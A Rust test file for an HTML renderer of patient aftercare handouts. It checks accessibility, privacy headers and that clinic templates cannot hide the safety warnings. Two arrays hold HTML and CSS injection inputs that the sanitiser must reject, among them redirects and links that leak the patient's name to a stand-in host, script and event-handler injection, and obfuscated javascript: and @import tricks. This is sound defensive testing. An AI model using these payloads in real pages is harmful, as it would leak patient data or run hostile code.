//! The HTML handout as its reader and the browser meet it.

#[path = "support/html_pages.rs"]
mod html_pages;
#[path = "merge/kit.rs"]
#[allow(dead_code)] // shared with tests/merge.rs, which uses all of it
mod kit;

use aftercare::brand::Colour;
use aftercare::document::{Document, Paint, Picture, reading_order, sample};
use aftercare::html::{HtmlRenderer, visible_text};
use aftercare::options::Edition;
use html_pages::{built_in_templates, page, source};

fn both() -> [Document; 2] {
    [sample::sample(), sample::sample_of_everything()]
}

fn between<'a>(html: &'a str, start: &str, end: &str) -> &'a str {
    let from = html.find(start).unwrap_or_else(|| panic!("no {start}"));
    let to = html[from..].find(end).unwrap_or_else(|| panic!("no {end}"));
    &html[from..from + to]
}

#[test]
fn the_page_says_the_words_of_the_document_in_their_order_and_no_others() {
    for document in both() {
        for edition in Edition::ALL {
            let html = page(&document, *edition);
            let shown = visible_text(between(&html, "<main", "</main>"));
            assert_eq!(shown, reading_order(&document).join(" "), "{edition}");
        }
    }
}

#[test]
fn clinic_and_running_lines_stand_outside_main_without_page_numbers() {
    let html = page(&sample::sample(), Edition::Standard);
    assert_eq!(visible_text(between(&html, "<header", "</header>")), "Sample Clinic Aftercare for you");
    assert_eq!(
        visible_text(between(&html, "<footer", "</footer>")),
        "Sample Clinic, Sample Town Large print or another format? Ask us. Reviewed Nov 2026 · v3F2A9C"
    );
}

#[test]
fn the_patients_name_stands_in_the_heading_and_nowhere_in_the_head() {
    let html = page(&sample::sample(), Edition::Standard);
    assert!(!between(&html, "<!DOCTYPE", "</head>").contains("Zoë"));
    assert_eq!(html.matches("Zoë").count(), 1);
}

#[test]
fn a_patients_sheet_asks_not_to_be_indexed_or_sent_anywhere() {
    let html = page(&sample::sample(), Edition::Standard);
    for meta in ["content=\"noindex", "name=\"referrer\" content=\"no-referrer\"", "default-src 'none'"] {
        assert!(between(&html, "<head>", "</head>").contains(meta), "{meta}");
    }
}

#[test]
fn nothing_is_fetched_and_nothing_runs() {
    for document in both() {
        let html = page(&document, Edition::Standard);
        for forbidden in
            ["<script", "<link rel=\"stylesheet\"", "@import", "<img", "<iframe", " onload=", "javascript:"]
        {
            assert!(!html.contains(forbidden), "{forbidden}");
        }
        for address in html.split("url(").skip(1) {
            assert!(address.starts_with("data:font/woff2;base64,"), "{}", &address[..40]);
        }
        let sources = html.split(" src=").skip(1).count();
        assert_eq!(sources, 0);
    }
}

#[test]
fn the_typeface_is_under_60_kb_and_the_rest_of_the_page_is_small() {
    let templates = built_in_templates();
    let typeface = templates["typeface.css"].text.len();
    assert!(typeface <= 60_000, "{typeface} bytes");
    let html = page(&sample::sample(), Edition::Standard);
    // Some 7 KB of it seal the warnings against style sheets; words with hyphens are held together by elements of their own,
    // and 2 KB draw logos on dark screens, the tinted ends of bars, notes below them and short last days.
    assert!(html.len() - typeface <= 45_700, "{} bytes without typeface", html.len() - typeface);
}

#[test]
fn one_h1_and_no_heading_skips_a_level() {
    for document in both() {
        let html = page(&document, Edition::Standard);
        let levels: Vec<u32> = html
            .split("<h")
            .filter_map(|after| after.chars().next().and_then(|level| level.to_digit(10)))
            .collect();
        assert_eq!(levels.iter().filter(|level| **level == 1).count(), 1);
        assert_eq!(levels.first(), Some(&1));
        assert!(levels.windows(2).all(|pair| pair[1] <= pair[0] + 1), "{levels:?}");
    }
}

#[test]
fn every_picture_has_words_or_is_hidden_from_readers() {
    let html = page(&sample::sample_of_everything(), Edition::Standard);
    for picture in html.split("<svg").skip(1) {
        let tag = &picture[..picture.find('>').unwrap_or(0)];
        let named = tag.contains("role=\"img\" aria-label=\"") && !tag.contains("aria-label=\"\"");
        assert!(named || tag.contains("aria-hidden=\"true\""), "{tag}");
    }
}

#[test]
fn numbers_keep_to_their_units_without_no_break_spaces_in_the_text() {
    let html = page(&sample::sample(), Edition::Standard);
    assert!(html.contains("<span class=\"nb\">Nov 26,</span> <span class=\"nb\">3:30 pm</span>"));
    assert!(!html.contains('\u{a0}') && !html.contains("&nbsp;"));
}

#[test]
fn the_same_document_gives_the_same_bytes() {
    for document in both() {
        assert_eq!(page(&document, Edition::LargePrint), page(&document, Edition::LargePrint));
    }
}

#[test]
fn the_edition_sets_the_style() {
    for edition in Edition::ALL {
        let html = page(&sample::sample(), *edition);
        assert!(html.contains(&format!("<html lang=\"en\" class=\"{edition}\" data-frame>")));
    }
}

/// The band at the top of a page whose logo has one colour.
fn band_with(logo: &str, on_dark: bool) -> String {
    let mut brand = aftercare::brand::sample_brand();
    let mut paths = brand.logo.paths().to_vec();
    paths[0].fill = Colour::from_hex(logo).map(Paint::Colour);
    brand.logo_on_dark = on_dark.then(|| brand.logo.clone());
    brand.logo = Picture::new("logo", (48.0, 48.0), paths).into();
    let made = HtmlRenderer::new(&built_in_templates(), &brand)
        .and_then(|renderer| renderer.render(&sample::sample(), Edition::Standard));
    let html = made.unwrap_or_else(|faults| panic!("{faults}"));
    between(&html, "<header", "</header>").to_owned()
}

#[test]
fn a_logo_of_dark_letters_is_seen_on_a_dark_page() {
    assert!(band_with("#15202b", false).contains("class=\"logo on-plate\""));
    let both = band_with("#15202b", true);
    assert!(both.contains("class=\"logo on-light\"") && both.contains("class=\"logo on-dark\""), "{both}");
    let seen = band_with("#f5c400", false);
    assert!(seen.contains("class=\"logo\"") && !seen.contains("on-plate"), "{seen}");
}

/// The fault that a clinic's own `handout.html` gives.
fn fault_of(handout: &str) -> String {
    let mut templates = built_in_templates();
    templates.insert("handout.html".into(), source("handout.html", handout));
    let made = HtmlRenderer::new(&templates, &aftercare::brand::sample_brand())
        .and_then(|renderer| renderer.render(&sample::sample(), Edition::Standard));
    made.err().map(|faults| faults.to_string()).unwrap_or_default()
}

/// The page that a clinic's own `handout.html` gives.
fn page_of(handout: &str) -> Result<String, String> {
    let mut templates = built_in_templates();
    templates.insert("handout.html".into(), source("handout.html", handout));
    HtmlRenderer::new(&templates, &aftercare::brand::sample_brand())
        .and_then(|renderer| renderer.render(&sample::sample(), Edition::Standard))
        .map_err(|faults| faults.to_string())
}

/// A handout with this in place of the warnings.
fn handout(middle: &str) -> String {
    format!(
        "{{% extends \"base.html\" %}}{{% block main %}}{{{{ <Masthead masthead={{masthead}} /> }}}}{middle}\
         {{% for group in groups %}}{{{{ <Group group={{group}} /> }}}}{{% endfor %}}{{% endblock main %}}"
    )
}

const SAFETY: &str = "{{ <Safety safety={safety} /> }}";

#[test]
fn a_template_that_forgets_the_warning_signs_has_them_first() {
    let html = page_of(&handout("")).expect("a page");
    let shown = visible_text(between(&html, "<main", "</main>"));
    assert!(shown.starts_with("When to get help Call 555 now"), "{shown}");
    assert_eq!(html.matches("<section data-warnings").count(), 1);
}

#[test]
fn the_warning_signs_stand_once_however_often_they_are_called() {
    let html = page_of(&handout(&format!("{SAFETY}{SAFETY}"))).expect("a page");
    assert_eq!(html.matches("<section data-warnings").count(), 1);
    assert!(!html.contains("aftercare-warnings"));
}

#[test]
fn the_warning_signs_stand_in_plain_boxes_only() {
    for (before, after, odd) in [
        ("<div hidden>", "</div>", "`<div>` holds the warnings, and may not have the attribute `hidden`"),
        ("<div HIDDEN=\"\">", "</div>", "the attribute `hidden`"),
        ("<div hidden=until-found>", "</div>", "the attribute `hidden`"),
        ("<div aria-hidden='true'>", "</div>", "the attribute `aria-hidden`"),
        ("<div inert>", "</div>", "the attribute `inert`"),
        ("<div style='display:none'>", "</div>", "the attribute `style`"),
        ("<div role=presentation>", "</div>", "the attribute `role`"),
        ("<div popover>", "</div>", "the attribute `popover`"),
        ("<details>", "</details>", "may not stand in `<details>`"),
        ("<ul><li>", "</li></ul>", "may not stand in `<li>`"),
        ("<p>", "</p>", "may not stand in `<p>`"),
        ("<a href='#x'>", "</a>", "may not stand in `<a>`"),
        ("<h2>", "</h2>", "may not stand in `<h2>`"),
    ] {
        let told = page_of(&handout(&format!("{before}{SAFETY}{after}"))).expect_err(before);
        assert!(told.contains(odd), "{before}: {told}");
        assert!(told.starts_with("templates/html/handout.html:1:"), "{told}");
        assert!(told.contains("call `<Safety safety={safety} />` in `main` itself"), "{told}");
    }
    for plain in ["<div class=x><section id=y>", "<article lang=en>"] {
        assert!(page_of(&handout(&format!("{plain}{SAFETY}"))).is_ok(), "{plain}");
    }
}

/// What hides, loads, runs or leads away, and what is said of it.
const HOSTILE: [(&str, &str); 39] = [
    (
        "<meta http-equiv=\"refresh\" content=\"0;url=http://a.example/?n={{ masthead.title.plain }}\">",
        "leads away",
    ),
    ("<META HTTP-EQUIV=ReFresh content=0>", "leads away"),
    ("<meta http-equiv=\"content-security-policy\" content=\"default-src *\">", "not the page's policy"),
    ("<meta name=viewport content=\"width=5000\">", "the page's own width"),
    ("<link rel=preconnect href=http://a.example>", "load or prepare anything"),
    ("<link rel=\"dns-prefetch stylesheet\" href=//a.example>", "load or prepare anything"),
    ("<script>x</script>", "run a script"),
    ("<script src=yours.js></script>", "run a script"),
    ("<script type=speculationrules>{}</script>", "run a script"),
    ("<iframe src=http://a.example></iframe>", "may not hold `<iframe>`"),
    ("<object data=x></object>", "may not hold `<object>`"),
    ("<embed src=x>", "may not hold `<embed>`"),
    ("<form action=http://a.example><input name=n></form>", "may not hold `<form>`"),
    ("<base href=http://a.example>", "may not hold `<base>`"),
    ("<dialog open>x</dialog>", "may not hold `<dialog>`"),
    ("<select><option>x</select>", "may not hold `<select>`"),
    ("<noscript><img src=http://a.example></noscript>", "may not hold `<noscript>`"),
    ("<template>x</template>", "may not hold `<template>`"),
    ("<textarea>", "may not hold `<textarea>`"),
    ("<xmp>", "may not hold `<xmp>`"),
    ("<plaintext>", "may not hold `<plaintext>`"),
    ("<frameset>", ""),
    ("<video src=http://a.example></video>", "may not hold `<video>`"),
    ("<portal src=x></portal>", "may not hold `<portal>`"),
    ("<svg><script>x</script></svg>", "may not hold `<script>`"),
    ("<svg><foreignObject><p>x</p></foreignObject></svg>", "may not hold `<foreignObject>`"),
    ("<svg><image href=http://a.example></image></svg>", "may not hold `<image>`"),
    ("<svg><use href=http://a.example#x /></svg>", "leads out of the page"),
    ("<svg><path fill=\"url(http://a.example)\"/></svg>", "attribute `fill`"),
    ("<svg><title><p>x</p></title></svg>", "may not hold `<p>`"),
    ("<svg onload=x></svg>", "attribute `onload`"),
    ("<p onclick=x>", "attribute `onclick`"),
    ("<p data-warnings>", "attribute `data-warnings`"),
    ("<div role=dialog aria-modal=true>", "attribute `role`"),
    ("<div aria-owns=safety>", "attribute `aria-owns`"),
    ("<img src=http://a.example/{{ masthead.title.plain }} alt=''>", "attribute `src`"),
    ("<img src='data:image/png;base64,' srcset='http://a.example 2x' alt=''>", "attribute `srcset`"),
    ("<a href=\"https://a.example/?n={{ masthead.title.plain }}\">x</a>", "stands nowhere in the content"),
    ("<a href=' java&#10;script:x'>x</a>", "stands nowhere in the content"),
];

#[test]
fn nothing_that_leads_away_loads_runs_or_covers_stands_in_a_page() {
    for (hostile, expected) in HOSTILE {
        match page_of(&handout(&format!("{SAFETY}{hostile}"))) {
            Ok(html) => {
                assert!(expected.is_empty(), "{hostile} made a page");
                assert!(!html.contains("<frameset") && html.contains("<section data-warnings"), "{hostile}");
            }
            Err(told) => {
                assert!(!expected.is_empty() && told.contains(expected), "{hostile}: {told}");
                assert!(told.contains("templates/html/handout.html:1:"), "{hostile}: {told}");
                assert!(!told.contains("Zoë"), "{told}");
            }
        }
    }
}

/// Rules of a style that load something, or reach beyond what they stand for.
const HOSTILE_STYLES: [(&str, &str); 20] = [
    ("@import 'http://a.example';", "may not hold `@import`"),
    ("@\\69mport url(data:text/css,x);", "may not hold `@import`"),
    ("p { background: url(http://a.example/x) }", "asks another server"),
    ("p { background: u\\72l( \"//a.example/x\" ) }", "asks another server"),
    ("p { background: image-set('http://a.example/x' 1x) }", "asks another server"),
    ("p { background: url(style/x.png) }", "asks another server"),
    ("@view-transition { navigation: auto }", "may not hold `@view-transition`"),
    ("@property --x { syntax: '*'; inherits: false }", "may not hold `@property`"),
    ("::view-transition { background: white }", "may not change `::view-transition`"),
    ("html::-webkit-scrollbar { width: 9999px }", "may not change `::-webkit-scrollbar`"),
    ("html::scroll-button(down) { content: '' }", "may not change `::scroll-button`"),
    ("@font-face { font-family: x; src: local(x); size-adjust: 1% }", "may not have `size-adjust`"),
    ("@page { margin: 400mm }", "`margin` of `@page`"),
    ("@page { size: 10mm 10mm }", "`size` of `@page`"),
    ("@page { margin: calc(1px * 9999) }", "`margin` of `@page`"),
    ("@page { @top-left { content: 'x' } }", "may not hold `@top-left`"),
    ("html { interactivity: inert }", "the property `interactivity`"),
    ("@media print { a { b { c-of-tomorrow: x } } }", "the property `c-of-tomorrow`"),
    ("p { background: url('http://a.example", "not closed"),
    ("p { x: url(http://a.example", "asks another server"),
];

#[test]
fn a_style_that_loads_something_or_changes_the_whole_page_makes_no_page() {
    for (style, expected) in HOSTILE_STYLES {
        let mut templates = built_in_templates();
        let css = format!("{}\n{style}", templates["style.css"].text);
        templates.insert("style.css".into(), source("style.css", &css));
        let made = HtmlRenderer::new(&templates, &aftercare::brand::sample_brand())
            .and_then(|renderer| renderer.render(&sample::sample(), Edition::Standard));
        let told = made.map(|_| ()).expect_err(style).to_string();
        assert!(told.contains(expected), "{style}: {told}");
        assert!(told.contains("templates/html/"), "{told}");
    }
}

#[test]
fn whatever_the_templates_say_the_page_has_the_programs_policy_and_width() {
    for head in [
        "<!DOCTYPE html><html><head><title>x</title></head>",
        "<title>x</title><meta charset=koi8-r><meta name=viewport content='width=device-width,  initial-scale=1'>",
    ] {
        let html = page_of(&format!("{head}<body>{SAFETY}</body>")).expect("a page");
        let policy = "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'";
        assert_eq!(html.matches(policy).count(), 1);
        assert_eq!(html.matches("charset=").count(), 1);
        assert_eq!(html.matches("width=device-width, initial-scale=1").count(), 1);
    }
}

#[test]
fn a_link_of_the_content_stands_and_so_does_one_within_the_page() {
    let document = sample::sample_of_everything();
    let html = page(&document, Edition::Standard);
    assert!(html.contains("<a href=\""), "the sample has a link");
    assert!(page_of(&handout(&format!("{SAFETY}<a href=\"#rest\">Rest</a>"))).is_ok());
}

#[test]
fn a_clinics_typeface_is_not_the_warnings_own() {
    let family = |typeface: &str| {
        let mut templates = built_in_templates();
        templates.insert("typeface.css".into(), source("typeface.css", typeface));
        let html = HtmlRenderer::new(&templates, &aftercare::brand::sample_brand())
            .and_then(|renderer| renderer.render(&sample::sample(), Edition::Standard))
            .expect("a page");
        between(&html, "#safety>div{", "!important").rsplit("/1.5 ").next().unwrap_or_default().to_owned()
    };
    let own = built_in_templates()["typeface.css"].text.to_string();
    assert!(family(&own).starts_with("'Atkinson"));
    let blank =
        "@font-face { font-family: \"Atkinson Hyperlegible Next\"; src: url(data:font/woff2;base64,AAAA) }";
    assert_eq!(family(blank), "system-ui,sans-serif");
    assert_eq!(family(&format!("{own}{blank}")), "system-ui,sans-serif");
}

#[test]
fn a_template_with_the_warning_signs_below_the_body_makes_no_page() {
    let told = fault_of(
        "{% extends \"base.html\" %}{% block main %}{% for group in groups %}{{ <Group group={group} /> }}\
         {% endfor %}{{ <Safety safety={safety} /> }}{% endblock main %}",
    );
    assert!(told.contains("the body before the warning signs"), "{told}");
}

#[test]
fn a_misspelt_name_is_told_with_its_line_and_the_nearest() {
    let told = fault_of(
        "{% extends \"base.html\" %}\n{% block main %}\n<h1>{{ masthead.titel.html }}</h1>{% endblock main %}",
    );
    assert_eq!(told, "templates/html/handout.html:3:17: field `titel` is not defined; did you mean `title`?");
}

#[test]
fn a_folder_without_handout_html_is_told() {
    let mut templates = built_in_templates();
    let handout = templates.remove("handout.html").expect("the repository holds it");
    templates.insert("handouts.html".into(), handout);
    let made = HtmlRenderer::new(&templates, &aftercare::brand::sample_brand());
    let told = made.err().map(|faults| faults.to_string());
    assert_eq!(
        told.as_deref(),
        Some(
            "templates/html/handout.html: templates/html holds no `handout.html`; copy it from a folder that `aftercare init` writes"
        )
    );
}

#[test]
fn a_fault_in_a_rare_part_is_found_when_the_templates_are_tried_out() {
    let mut templates = built_in_templates();
    let blocks = templates["blocks.html"].text.replace("block.caption.html", "block.captoin.html");
    templates.insert("blocks.html".into(), source("blocks.html", &blocks));
    let tried = HtmlRenderer::new(&templates, &aftercare::brand::sample_brand())
        .and_then(|renderer| renderer.try_out());
    let told = tried.err().map(|faults| faults.to_string()).unwrap_or_default();
    assert!(
        told.starts_with("templates/html/blocks.html:") && told.contains("did you mean `caption`?"),
        "{told}"
    );
}

/// Requests that change what stands on the sheet.
const REQUESTS: [&str; 3] = [
    "patient: Zoë\nsession: {at: 2026-11-24T15:30, therapist: Valerie, regions: [neck, shoulder]}\n\
     plan: {note: 'Stop if it pinches & <rest>.', next_visit: 2026-12-01T10:00}\n",
    "session: {at: 2026-11-24T15:30, intensity: light, regions: [calf]}\nactivity: running\n",
    "patient: 李\nsession: {at: 2026-11-24T15:30, regions: [chest, ribs, knee]}\nplan: {rest_hours: 12}\n\
     precautions: [blood-thinners, fluid-limit, pregnancy, faints, immune]\n",
];

#[test]
fn sheets_of_the_built_in_clinic_say_the_words_of_their_documents() {
    let clinic = kit::built_in();
    for request in REQUESTS {
        let document = clinic.sheet(request);
        let html = page(&document, Edition::Standard);
        let read: Vec<String> = reading_order(&document);
        let read = read.join(" ").split_whitespace().collect::<Vec<_>>().join(" ");
        // A screen has no line to write a number on.
        let read = read.replace("Call us: ____________________ ", "Call us ");
        assert_eq!(visible_text(between(&html, "<main", "</main>")), read, "{request}");
    }
}

#[test]
fn the_built_in_clinics_own_templates_are_the_ones_tested_here() {
    let library = &kit::built_in().library;
    let names: Vec<&String> = library.templates.html.keys().collect();
    assert_eq!(names, built_in_templates().keys().collect::<Vec<_>>());
}
